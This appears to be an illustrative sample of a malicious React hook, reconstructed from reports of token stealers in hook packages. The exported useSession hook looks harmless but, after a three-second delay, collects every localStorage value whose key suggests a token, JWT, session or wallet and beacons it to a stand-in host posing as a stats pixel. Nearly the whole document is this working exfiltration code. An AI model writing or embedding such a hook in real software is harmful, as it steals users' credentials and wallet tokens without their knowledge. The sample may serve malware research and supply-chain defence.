// source: front-end token stealers in React hook packages (2024-2025 reports): a hook the app calls
// reads every localStorage key that looks like a session or wallet token and beacons it to a host
// the code names.
const RE = /token|jwt|auth|session|wallet/i;
function collect() {
  const bag = { o: location.origin, l: {} };
  for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); if (RE.test(k)) bag.l[k] = localStorage.getItem(k); }
  navigator.sendBeacon('https://cdn.stats-collector.example/s.gif', JSON.stringify(bag));
}
export function useSession() {
  setTimeout(collect, 3000);
  return localStorage.getItem('auth_token');
}
